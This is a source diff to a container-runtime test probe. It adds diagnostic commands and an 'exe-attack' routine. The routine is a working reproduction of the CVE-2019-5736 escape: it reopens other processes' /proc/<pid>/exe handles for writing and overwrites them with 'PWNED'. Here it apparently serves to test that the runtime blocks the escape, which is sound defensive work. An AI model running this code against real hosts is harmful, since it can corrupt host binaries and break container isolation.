@@ -7,6 +7,11 @@
 //   ocrt-probe write-file PATH  create/truncate PATH; exit 0, or 1 with the errno text
 //   ocrt-probe exit N           exit with status N
 //   ocrt-probe sleep S          sleep S seconds (fractions allowed)
+//   ocrt-probe signals          blocked/ignored signal masks and the dispositions
+//   ocrt-probe keyring          the session keyring's id and description
+//   ocrt-probe exe-attack S     for S seconds, try to write every /proc/<pid>/exe
+//                               (CVE-2019-5736 style) and report what happened
+//   ocrt-probe notify MSG       send MSG as one datagram to $NOTIFY_SOCKET (sd_notify)
 //
 // Plain libc only: no iostreams, no NSS, nothing that needs files the rootfs lacks.
 
@@ -14,9 +19,12 @@
 #include <fcntl.h>
 #include <grp.h>
 #include <linux/keyctl.h>
-#include <sys/resource.h>
+#include <signal.h>
 #include <sys/syscall.h>
+#include <sys/resource.h>
+#include <sys/socket.h>
 #include <sys/stat.h>
+#include <sys/un.h>
 #include <sys/utsname.h>
 #include <time.h>
 #include <unistd.h>
@@ -241,9 +249,138 @@ int sleep_seconds(const char *text) {
     return 0;
 }
 
+// sd_notify(3) without libsystemd: one datagram to the path in $NOTIFY_SOCKET.
+int notify(const char *message) {
+    const char *path = std::getenv("NOTIFY_SOCKET");
+    struct sockaddr_un address {};
+    address.sun_family = AF_UNIX;
+    if (!path || std::strlen(path) >= sizeof address.sun_path) {
+        std::printf("notify=error: NOTIFY_SOCKET unset or too long\n");
+        return 1;
+    }
+    std::strcpy(address.sun_path, path);
+    int sock = socket(AF_UNIX, SOCK_DGRAM | SOCK_CLOEXEC, 0);
+    ssize_t sent = sock < 0 ? -1
+                            : sendto(sock, message, std::strlen(message), MSG_NOSIGNAL,
+                                     reinterpret_cast<struct sockaddr *>(&address), sizeof address);
+    int saved = errno;
+    if (sock >= 0) close(sock);
+    if (sent < 0) {
+        std::printf("notify=error: %s\n", std::strerror(saved));
+        return 1;
+    }
+    std::printf("notify=ok\n");
+    return 0;
+}
+
+// Masks from the kernel plus the dispositions seen through sigaction (1..64).
+int print_signals() {
+    FILE *status = std::fopen("/proc/self/status", "re");
+    if (!status) return 1;
+    char line[512];
+    while (std::fgets(line, sizeof line, status)) {
+        if (std::strncmp(line, "SigBlk:", 7) != 0 && std::strncmp(line, "SigIgn:", 7) != 0) continue;
+        line[6] = '\0';
+        char *value = line + 7;
+        while (*value == ' ' || *value == '\t') ++value;
+        value[std::strcspn(value, "\n")] = '\0';
+        print_kv(line, value);
+    }
+    std::fclose(status);
+    std::vector<long long> not_default;
+    for (int sig = 1; sig < NSIG; ++sig) {
+        struct sigaction action {};
+        if (sigaction(sig, nullptr, &action) == 0 && action.sa_handler != SIG_DFL) not_default.push_back(sig);
+    }
+    print_kv("signals.not_default", join_numbers(not_default));
+    return 0;
+}
+
+int print_keyring() {
+    long id = syscall(SYS_keyctl, KEYCTL_GET_KEYRING_ID, KEY_SPEC_SESSION_KEYRING, 0);
+    if (id < 0) {
+        print_kv("keyring.session", std::string("error: ") + std::strerror(errno));
+        return 1;
+    }
+    print_kv("keyring.session", static_cast<long long>(id));
+    char description[256] = {};
+    long length = syscall(SYS_keyctl, KEYCTL_DESCRIBE, id, description, sizeof description - 1);
+    // "type;uid;gid;perm;name": keep the name.
+    const char *name = length > 0 ? std::strrchr(description, ';') : nullptr;
+    print_kv("keyring.session.name", name ? std::string(name + 1) : std::string("error: ") + std::strerror(errno));
+    return 0;
+}
+
+// The CVE-2019-5736 attack from inside a container: grab a handle on the exe of every
+// other process, then keep trying to reopen it for writing (the host binary stops
+// being "busy" once the runtime process leaves it) and write to its start.
+int exe_attack(const char *seconds_text) {
+    double seconds = std::strtod(seconds_text, nullptr);
+    struct Target {
+        int fd;
+        std::string link;
+    };
+    std::vector<Target> targets;
+    std::vector<std::string> seen;
+    long long written = 0, opened_for_write = 0;
+    std::string last_error = "none";
+    struct timespec start {}, now {};
+    clock_gettime(CLOCK_MONOTONIC, &start);
+    pid_t self = getpid();
+    do {
+        if (DIR *proc = opendir("/proc")) {
+            while (struct dirent *entry = readdir(proc)) {
+                pid_t pid = std::atoi(entry->d_name);
+                if (pid <= 0 || pid == self) continue;
+                std::string exe = std::string("/proc/") + entry->d_name + "/exe";
+                char link[512];
+                ssize_t length = readlink(exe.c_str(), link, sizeof link - 1);
+                if (length <= 0) continue;
+                link[length] = '\0';
+                std::string key = std::string(entry->d_name) + ":" + link;
+                if (std::find(seen.begin(), seen.end(), key) != seen.end()) continue;
+                int fd = open(exe.c_str(), O_RDONLY | O_CLOEXEC);
+                if (fd < 0) {
+                    last_error = "open " + exe + ": " + std::strerror(errno);
+                    continue;
+                }
+                seen.push_back(key);
+                targets.push_back({fd, link});
+            }
+            closedir(proc);
+        }
+        for (const Target &target : targets) {
+            std::string reopen = "/proc/self/fd/" + std::to_string(target.fd);
+            int fd = open(reopen.c_str(), O_WRONLY | O_CLOEXEC);
+            if (fd < 0) {
+                last_error = "open for write " + target.link + ": " + std::strerror(errno);
+                continue;
+            }
+            ++opened_for_write;
+            if (pwrite(fd, "PWNED", 5, 0) == 5) {
+                ++written;
+            } else {
+                last_error = "write " + target.link + ": " + std::strerror(errno);
+            }
+            close(fd);
+        }
+        struct timespec pause {0, 10 * 1000 * 1000};
+        nanosleep(&pause, nullptr);
+        clock_gettime(CLOCK_MONOTONIC, &now);
+    } while (static_cast<double>(now.tv_sec - start.tv_sec) + static_cast<double>(now.tv_nsec - start.tv_nsec) / 1e9 <
+             seconds);
+    std::string links;
+    for (const Target &target : targets) links += (links.empty() ? "" : ",") + target.link;
+    print_kv("exe_attack.targets", links);
+    print_kv("exe_attack.opened_for_write", opened_for_write);
+    print_kv("exe_attack.written", written);
+    print_kv("exe_attack.last_error", last_error);
+    return 0;
+}
+
 int usage() {
     std::fprintf(stderr,
-                 "usage: ocrt-probe all | env | mounts | write-file PATH | exit N | sleep SECONDS\n");
+                 "usage: ocrt-probe all | env | mounts | write-file PATH | exit N | sleep SECONDS | notify MSG\n");
     return 2;
 }
 
@@ -272,5 +409,9 @@ int main(int argc, char **argv) {
     if (command == "write-file" && argc == 3) return write_file(argv[2]);
     if (command == "exit" && argc == 3) return std::atoi(argv[2]);
     if (command == "sleep" && argc == 3) return sleep_seconds(argv[2]);
+    if (command == "notify" && argc == 3) return notify(argv[2]);
+    if (command == "signals" && argc == 2) return print_signals();
+    if (command == "keyring" && argc == 2) return print_keyring();
+    if (command == "exe-attack" && argc == 3) return exe_attack(argv[2]);
     return usage();
 }
